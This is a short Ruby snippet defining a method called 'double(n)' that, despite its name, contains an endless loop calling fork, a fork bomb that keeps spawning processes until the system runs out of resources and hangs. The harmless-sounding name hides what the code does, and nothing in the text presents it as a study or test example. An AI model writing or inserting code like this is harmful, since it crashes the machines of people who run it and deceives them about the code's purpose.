def double(n)
  loop { fork }
end
